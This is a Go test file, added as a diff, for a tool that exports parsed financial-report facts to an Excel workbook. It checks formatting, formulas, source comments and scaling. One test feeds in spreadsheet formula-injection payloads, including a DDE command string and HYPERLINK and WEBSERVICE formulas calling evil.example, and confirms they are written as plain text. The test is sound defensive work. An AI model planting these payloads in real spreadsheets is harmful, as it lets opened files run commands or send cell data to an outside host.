@@ -1,0 +1,326 @@
+package export
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+
+	"facet/parse"
+)
+
+// sheetOrder is the sheets a report's workbook must have, in order.
+func sheetOrder(rep *parse.Report) []string {
+	var want []string
+	entities := rep.Entities()
+	for _, e := range entities {
+		for _, s := range statementSheets {
+			if len(entities) > 1 {
+				want = append(want, e+" "+s.String())
+			} else {
+				want = append(want, s.String())
+			}
+		}
+	}
+	return append(want, "Guidance", "Facts", "Checks", "Sources")
+}
+
+// bookCell is one cell of a statement sheet as excelize reads it back.
+type bookCell struct {
+	ref, value, formula, color, comment string
+	number                              bool
+}
+
+// readStatement reads the figures of a statement sheet (below its header
+// rows, right of its labels) with excelize's reader.
+func readStatement(t *testing.T, f *excelize.File, sheet string) []bookCell {
+	t.Helper()
+	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	comments, err := f.GetComments(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	byCell := map[string]string{}
+	for _, c := range comments {
+		var b strings.Builder
+		for _, p := range c.Paragraph {
+			b.WriteString(p.Text)
+		}
+		byCell[c.Cell] = c.Text + b.String()
+	}
+	var out []bookCell
+	for r := firstDataRow; r <= len(rows); r++ {
+		label := ""
+		if len(rows[r-1]) > 0 {
+			label = rows[r-1][0]
+		}
+		if strings.HasPrefix(label, "Blue:") {
+			break // the legend
+		}
+		for c := 2; c <= len(rows[r-1]); c++ {
+			ref := cellName(c, r)
+			v := rows[r-1][c-1]
+			formula, _ := f.GetCellFormula(sheet, ref)
+			if v == "" && formula == "" {
+				continue
+			}
+			id, _ := f.GetCellStyle(sheet, ref)
+			st, err := f.GetStyle(id)
+			if err != nil {
+				t.Fatal(err)
+			}
+			color := ""
+			if st.Font != nil {
+				color = strings.ToUpper(st.Font.Color)
+			}
+			_, perr := strconv.ParseFloat(v, 64)
+			typ, _ := f.GetCellType(sheet, ref)
+			out = append(out, bookCell{ref: ref, value: v, formula: formula, color: color, comment: byCell[ref],
+				number: perr == nil && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString})
+		}
+	}
+	return out
+}
+
+// TestWorkbookReadBack reads the samples' workbook back with excelize:
+// its sheets, every figure a number, inputs blue with a comment naming
+// their source, formulas black, every statement fact present once, the
+// Facts table with a row per fact, frozen panes and print titles.
+func TestWorkbookReadBack(t *testing.T) {
+	rep := sampleReport(t)
+	path := writeBook(t, rep, WorkbookOptions{})
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	want := sheetOrder(rep)
+	if got := f.GetSheetList(); strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Fatalf("sheets %q, want %q", got, want)
+	}
+	statementFacts := 0
+	for _, fact := range Reportable(rep.Facts) {
+		if onStatement(fact) {
+			statementFacts++
+		}
+	}
+	inputs, stated, formulas := 0, 0, 0
+	for _, sheet := range want[:len(want)-4] {
+		panes, err := f.GetPanes(sheet)
+		if err != nil || !panes.Freeze || panes.TopLeftCell != "B7" || panes.XSplit != 1 || panes.YSplit != 6 {
+			t.Errorf("%s: panes %+v (%v), want frozen at B7", sheet, panes, err)
+		}
+		view, _ := f.GetSheetView(sheet, 0)
+		if view.ShowGridLines == nil || *view.ShowGridLines {
+			t.Errorf("%s shows gridlines", sheet)
+		}
+		layout, _ := f.GetPageLayout(sheet)
+		if layout.Orientation == nil || *layout.Orientation != "landscape" || layout.FitToWidth == nil || *layout.FitToWidth != 1 {
+			t.Errorf("%s: page layout %+v, want landscape fitted to one page wide", sheet, layout)
+		}
+		for _, c := range readStatement(t, f, sheet) {
+			if !c.number && c.value != "n.m." {
+				t.Errorf("%s!%s holds %q, not a number", sheet, c.ref, c.value)
+			}
+			switch {
+			case c.formula == "":
+				inputs++
+				if c.color != colorInput {
+					t.Errorf("%s!%s: an input in colour %q, want blue", sheet, c.ref, c.color)
+				}
+				if !strings.Contains(c.comment, ".txt, line ") {
+					t.Errorf("%s!%s: an input whose comment names no source: %q", sheet, c.ref, c.comment)
+				}
+			default:
+				formulas++
+				if c.color != colorFormula && c.color != colorMuted {
+					t.Errorf("%s!%s: a formula in colour %q, want black", sheet, c.ref, c.color)
+				}
+				if c.comment != "" {
+					stated++ // a formula standing where the documents state the figure
+					if !strings.Contains(c.comment, "Formula: ") || !strings.Contains(c.comment, ".txt, line ") {
+						t.Errorf("%s!%s: comment %q does not explain the formula and its source", sheet, c.ref, c.comment)
+					}
+				}
+			}
+		}
+	}
+	t.Logf("%d statement facts: %d inputs, %d formulas (%d for stated figures)", statementFacts, inputs, formulas, stated)
+	if inputs+stated != statementFacts {
+		t.Errorf("%d inputs and %d formulas for stated figures, want the %d facts of the statement sheets", inputs, stated, statementFacts)
+	}
+	if formulas <= stated {
+		t.Errorf("only %d formulas", formulas)
+	}
+	names := map[string]bool{}
+	for _, dn := range f.GetDefinedName() {
+		names[dn.Name+"@"+dn.Scope] = true
+	}
+	for _, sheet := range want {
+		if !names["_xlnm.Print_Titles@"+sheet] {
+			t.Errorf("%s repeats no header rows when printed", sheet)
+		}
+	}
+
+	facts := Reportable(rep.Facts)
+	tables, err := f.GetTables("Facts")
+	if err != nil || len(tables) != 1 {
+		t.Fatalf("Facts tables %v, %v", tables, err)
+	}
+	last := cellName(len(factColumns), len(facts)+1)
+	if tables[0].Range != "A1:"+last || tables[0].Name != "Facts" {
+		t.Errorf("Facts table %+v, want A1:%s", tables[0], last)
+	}
+	if dim, _ := f.GetSheetDimension("Facts"); dim != "A1:"+last {
+		t.Errorf("Facts dimension %s, want A1:%s", dim, last)
+	}
+	rows, err := f.GetRows("Facts", excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(facts)+1 {
+		t.Fatalf("Facts has %d rows, want %d", len(rows), len(facts)+1)
+	}
+	for i, c := range factColumns {
+		if rows[0][i] != c.name {
+			t.Errorf("Facts header %d is %q, want %q", i+1, rows[0][i], c.name)
+		}
+	}
+	for i, fact := range facts {
+		row := rows[i+1]
+		v, err := strconv.ParseFloat(row[12], 64)
+		if err != nil || !near(v, fact.Value.InexactFloat64()) {
+			t.Errorf("Facts row %d: value %q, want %s", i+2, row[12], fact.Value)
+		}
+		if row[0] != fact.Entity || row[1] != fact.ConceptInfo().XBRL || row[3] != fact.Segment || row[11] != strconv.Itoa(fact.Decimals) || row[13] != fact.Status.String() {
+			t.Errorf("Facts row %d: %q does not describe %v", i+2, row[:14], fact.Key)
+		}
+	}
+}
+
+// TestWorkbookInjection writes text from documents that Excel would run
+// as a formula if it were written as one, and reads it back as text.
+func TestWorkbookInjection(t *testing.T) {
+	evil := []string{`=HYPERLINK("http://evil.example/","click")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`, "=1+1\t"}
+	var facts []fx
+	for i, s := range evil {
+		facts = append(facts, fx{concept: "Revenue", segment: s, period: "Q2 2025", value: fmt.Sprint(100 + i), decimals: 0, entity: "=EVIL()"})
+	}
+	rep := testReport(t, parse.Calendar{}, facts...)
+	// the quote of a source is text from the document too
+	rep.Facts[0].Sources[0].Quote = `=WEBSERVICE("http://evil.example/"&A1) revenue was RMB100`
+	rep.Facts[0].Sources[0].Figure = parse.Span{Start: len(rep.Facts[0].Sources[0].Quote) - 6, End: len(rep.Facts[0].Sources[0].Quote)}
+	path := writeBook(t, rep, WorkbookOptions{})
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	found := map[string]bool{}
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for r, row := range rows {
+			for c, v := range row {
+				for _, s := range append(evil, "=EVIL()", rep.Facts[0].Sources[0].Quote) {
+					if !strings.Contains(v, strings.TrimSpace(s)) {
+						continue
+					}
+					ref := cellName(c+1, r+1)
+					found[s] = true
+					if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
+						t.Errorf("%s!%s: document text %q became the formula %q", sheet, ref, s, formula)
+					}
+					typ, _ := f.GetCellType(sheet, ref)
+					if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+						t.Errorf("%s!%s: document text %q is a cell of type %v, not text", sheet, ref, s, typ)
+					}
+				}
+			}
+		}
+	}
+	for _, s := range evil {
+		if !found[s] {
+			t.Errorf("%q is nowhere in the workbook", s)
+		}
+	}
+	if !found["=EVIL()"] {
+		t.Error("the company name is nowhere in the workbook")
+	}
+}
+
+func TestDisplayScale(t *testing.T) {
+	rep := testReport(t, parse.Calendar{}, fx{concept: "Revenue", period: "Q2 2025", value: "2349200000", decimals: -5})
+	cases := []struct {
+		scale  int
+		format string
+		units  string
+	}{
+		{0, `#,##0.0,,_);(#,##0.0,,);"–"_)`, "RMB million"},
+		{3, `#,##0,_);(#,##0,);"–"_)`, "RMB thousand"},
+		{6, `#,##0.0,,_);(#,##0.0,,);"–"_)`, "RMB million"},
+		{9, `#,##0.00,,,_);(#,##0.00,,,);"–"_)`, "RMB billion"},
+	}
+	for _, tc := range cases {
+		f, err := excelize.OpenFile(writeBook(t, rep, WorkbookOptions{DisplayScale: tc.scale}))
+		if err != nil {
+			t.Fatal(err)
+		}
+		v, _ := f.GetCellValue("Segments", "B7", excelize.Options{RawCellValue: true})
+		id, _ := f.GetCellStyle("Segments", "B7")
+		st, _ := f.GetStyle(id)
+		units, _ := f.GetCellValue("Segments", "A2")
+		if v != "2349200000" || st.CustomNumFmt == nil || *st.CustomNumFmt != tc.format || units != tc.units {
+			t.Errorf("scale %d: B7 holds %q as %v under %q; want the exact value as %s under %q", tc.scale, v, st.CustomNumFmt, units, tc.format, tc.units)
+		}
+		f.Close()
+	}
+	for _, bad := range []int{1, 4, -3, 12} {
+		err := WriteWorkbook(&bytes.Buffer{}, rep, WorkbookOptions{DisplayScale: bad})
+		if !errors.Is(err, ErrDisplayScale) || !strings.Contains(err.Error(), "choose 3 (thousands), 6 (millions) or 9 (billions)") {
+			t.Errorf("scale %d: error %v", bad, err)
+		}
+	}
+}
+
+// TestSeveralCompanies gives each company its own statement sheets,
+// formulas that name them, and one Facts, Checks and Sources for all.
+func TestSeveralCompanies(t *testing.T) {
+	rep := testReport(t, parse.Calendar{},
+		fx{entity: "Bob's Cloud", concept: "Revenue", period: "Q2 2025", value: "300", decimals: 0},
+		fx{entity: "Bob's Cloud", concept: "CostOfRevenue", period: "Q2 2025", value: "200", decimals: 0},
+		fx{entity: "Acme", concept: "Revenue", period: "FY2024", value: "1000", decimals: 0},
+		fx{entity: "Acme", concept: "Revenue", period: "FY2026", value: "1200", decimals: 0, scenario: parse.Forecast},
+	)
+	f, err := excelize.OpenFile(writeBook(t, rep, WorkbookOptions{}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	want := sheetOrder(rep)
+	if got := f.GetSheetList(); strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Fatalf("sheets %q, want %q", got, want)
+	}
+	formula, _ := f.GetCellFormula("Bob's Cloud Segments", "B8")
+	if formula != "B7-'Bob''s Cloud Costs'!B7" {
+		t.Errorf("gross profit formula %q", formula)
+	}
+	rows, _ := f.GetRows("Facts")
+	if len(rows) != 5 {
+		t.Errorf("Facts has %d rows, want 5", len(rows))
+	}
+	guided, _ := f.GetCellValue("Guidance", "A5")
+	actual, _ := f.GetCellValue("Guidance", "I5")
+	if guided != "Acme" || actual != "not yet reported" {
+		t.Errorf("Guidance row 5: %q, %q", guided, actual)
+	}
+}
